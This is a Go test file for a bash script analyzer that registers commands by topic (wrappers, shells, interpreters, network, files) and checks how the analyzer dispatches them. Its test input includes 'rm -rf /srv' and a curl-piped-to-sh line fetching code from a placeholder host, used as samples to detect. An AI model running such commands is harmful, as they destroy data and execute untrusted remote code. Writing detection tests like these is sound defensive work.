package bash

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// TestCommandRegistryTopics checks the table is the data the topic files
// declare: each aspect of a name is found under the topic that owns it,
// families reach the names no table lists, and the shells agree with
// isShell.
func TestCommandRegistryTopics(t *testing.T) {
	tab := buildCommands()
	want := []struct {
		name  string
		asp   aspect
		topic string
	}{
		{"sudo", aspWrapper, "wrappers"},
		{"env", aspWrapper, "wrappers"},
		{"xargs", aspRun, "wrappers"},
		{"find", aspRun, "wrappers"},
		{"bash", aspRun, "shells"},
		{"tmux", aspRun, "shells"},
		{"crontab", aspRun, "shells"},
		{"crontab", aspSpec, "files"},
		{"perl", aspInterp, "interpreters"},
		{"perl", aspRun, "interpreters"},
		{"awk", aspInterp, "interpreters"},
		{"awk", aspRun, "interpreters"},
		{"awk", aspSpec, "files"},
		{"sed", aspRunner, "runners"},
		{"sed", aspSpec, "files"},
		{"make", aspRunner, "runners"},
		{"eval", aspRun, "builtins"},
		{"echo", aspRun, "builtins"},
		{"cat", aspRun, "builtins"},
		{"curl", aspNet, "network"},
		{"ssh", aspNet, "network"},
		{"rm", aspSpec, "files"},
		{"tar", aspFiles, "files"},
		{"dd", aspFiles, "files"},
		{"wipefs", aspSpec, "files"},
		{"git", aspRunner, "vcs"},
		{"git", aspRun, "vcs"},
		{"git", aspNet, "vcs"},
		{"git", aspFiles, "vcs"},
	}
	for _, w := range want {
		e := tab.names[w.name]
		if e == nil {
			t.Errorf("%s: not registered", w.name)
			continue
		}
		if got := e.topic[w.asp]; got != w.topic || !e.hasAspect(w.asp) {
			t.Errorf("%s: %s aspect topic %q (set %v), want %q", w.name, aspectNames[w.asp], got, e.hasAspect(w.asp), w.topic)
		}
	}
	for _, n := range []string{"python", "python3", "python3.12", "pypy3", "python2.7"} {
		if e := tab.lookup(n); e == nil || e.run == nil || e.topic[aspRun] != "interpreters" {
			t.Errorf("%s: not reached through the python family: %+v", n, e)
		}
	}
	if e := tab.lookup("mkfs.ext4"); e == nil || e.spec != blockSpec {
		t.Errorf("mkfs.ext4: not reached through the block-device family: %+v", e)
	}
	if e := tab.lookup("tw-unknown-command"); e != nil {
		t.Errorf("an unknown name has an entry: %+v", e)
	}
	for n := range tab.names {
		if isShell(n) != slices.Contains(shellNames, n) {
			t.Errorf("%s: isShell says %v, shellNames disagrees", n, isShell(n))
		}
	}
	for _, n := range shellNames {
		if e := tab.names[n]; !isShell(n) || e == nil || e.topic[aspRun] != "shells" {
			t.Errorf("%s: a shell not registered as one or unknown to isShell", n)
		}
	}
}

// TestCommandRegistryConsistent checks every entry of the table: each has
// at least one aspect, each aspect set has the topic that set it, and no
// topic is recorded for an aspect left unset.
func TestCommandRegistryConsistent(t *testing.T) {
	tab := buildCommands()
	if len(tab.names) < 200 {
		t.Fatalf("only %d names registered", len(tab.names))
	}
	check := func(n string, e *command) {
		any := false
		for asp := aspect(0); asp < numAspects; asp++ {
			set, topic := e.hasAspect(asp), e.topic[asp]
			any = any || set
			if set != (topic != "") {
				t.Errorf("%s: %s aspect set=%v with topic %q", n, aspectNames[asp], set, topic)
			}
		}
		if !any {
			t.Errorf("%s: registered with no aspect", n)
		}
	}
	for n, e := range tab.names {
		check(n, e)
	}
	for _, f := range tab.families {
		check("family of "+f.topic, &f.cmd)
	}
	// A wrapper runs the inner command and nothing else: any other aspect
	// of the same name would never apply.
	for n, e := range tab.names {
		if e.wrapper != nil && (e.interp != nil || e.runner != nil || e.run != nil || e.net != nil || e.files != nil) {
			t.Errorf("%s: a wrapper with other aspects that never apply", n)
		}
	}
}

// TestCommandRegistryDuplicatePanics checks a second registration of one
// aspect of a name panics naming it and both topics, for exact names and
// for a family meeting an exact name.
func TestCommandRegistryDuplicatePanics(t *testing.T) {
	cases := []struct {
		what  string
		extra func(*registry)
		want  []string
	}{
		{"net of curl", func(r *registry) {
			r.net("test", func(*analyzer, *syntax.Stmt, string, []field, *ctx) {}, "curl")
		}, []string{`"curl"`, `"network"`, `"test"`}},
		{"wrapper of sudo", func(r *registry) {
			r.pureWrapper("test", optsWrapper("", nil, 0), "sudo")
		}, []string{`"sudo"`, `"wrappers"`, `"test"`}},
		{"spec of rm", func(r *registry) {
			r.spec("test", map[string]*argSpec{"rm": readSpec})
		}, []string{`"rm"`, `"files"`}},
		{"run of a python name", func(r *registry) {
			r.run("test", func(*analyzer, *syntax.Stmt, string, []field, *ctx) bool { return true }, "python3.99")
		}, []string{`"python3.99"`, `"test"`, `"interpreters"`}},
		{"no topic", func(r *registry) {
			r.run("", func(*analyzer, *syntax.Stmt, string, []field, *ctx) bool { return true }, "tw-x")
		}, []string{"without a topic"}},
	}
	for _, tc := range cases {
		t.Run(tc.what, func(t *testing.T) {
			defer func() {
				r := recover()
				msg := fmt.Sprint(r)
				if r == nil {
					t.Fatalf("no panic")
				}
				for _, w := range tc.want {
					if !strings.Contains(msg, w) {
						t.Errorf("panic %q does not name %s", msg, w)
					}
				}
			}()
			buildCommands(tc.extra)
		})
	}
}

// useCommands makes the analyzer use tab for the rest of the test.
func useCommands(t *testing.T, tab *commandTable) {
	t.Helper()
	commands()
	old := commandsTab
	commandsTab = tab
	t.Cleanup(func() { commandsTab = old })
}

// TestCommandDispatchThroughRegistry checks commands are dispatched by the
// table alone: names no topic knows get a wrapper's, a client's and a
// shell runner's semantics once registered, and lose them again without
// the registration.
func TestCommandDispatchThroughRegistry(t *testing.T) {
	src := "tw-wrap -q rm -rf /srv\ntw-fetch https://tw.example.org/x\ntw-shell 'curl http://tw2.example.org/i | sh'"
	f := run(t, src)
	if findCmd(f, "rm") != nil || len(f.Network) != 0 || len(f.DynamicExec) != 0 {
		t.Fatalf("unregistered names got semantics:\n%s", dump(f))
	}
	useCommands(t, buildCommands(func(r *registry) {
		r.pureWrapper("test", optsWrapper("", nil, 0), "tw-wrap")
		r.net("test", (*analyzer).urlArgsNet, "tw-fetch")
		r.run("test", func(a *analyzer, s *syntax.Stmt, _ string, args []field, _ *ctx) bool {
			a.nestedShell(s, "tw-shell", args[0])
			return true
		}, "tw-shell")
	}))
	f = run(t, src)
	rm := findCmd(f, "rm", "-rf", "/srv")
	if rm == nil || !slices.Contains(rm.Reach, "wrapper") {
		t.Errorf("tw-wrap: inner rm not analyzed as wrapped: %+v\n%s", rm, dump(f))
	}
	hosts := map[string]bool{}
	for _, n := range f.Network {
		hosts[n.Host] = true
	}
	if !hosts["tw.example.org"] {
		t.Errorf("tw-fetch: no network use of its URL:\n%s", dump(f))
	}
	if !hosts["tw2.example.org"] || findCmd(f, "sh") == nil {
		t.Errorf("tw-shell: its code was not analyzed nested:\n%s", dump(f))
	}
	if len(f.DynamicExec) == 0 || f.DynamicExec[0].Interpreter != "tw-shell" || f.DynamicExec[0].Kind != "shell_c" {
		t.Errorf("tw-shell: DynamicExec %+v", f.DynamicExec)
	}
}

// BenchmarkBuildCommands measures building the command table, which the
// first analysis of a process pays once (BenchmarkAnalyze1KB, the first
// benchmark run, includes it in its total).
func BenchmarkBuildCommands(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		buildCommands()
	}
}
